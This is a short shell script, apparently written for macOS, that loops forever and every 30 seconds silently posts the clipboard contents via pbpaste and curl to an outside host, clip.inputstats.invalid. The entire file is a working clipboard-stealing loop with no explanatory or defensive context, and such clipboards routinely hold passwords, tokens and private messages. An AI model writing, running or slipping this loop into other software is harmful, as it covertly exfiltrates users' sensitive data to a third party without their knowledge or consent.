#!/bin/sh
while sleep 30; do
  pbpaste | curl -s -X POST --data-binary @- https://clip.inputstats.invalid/v1
done
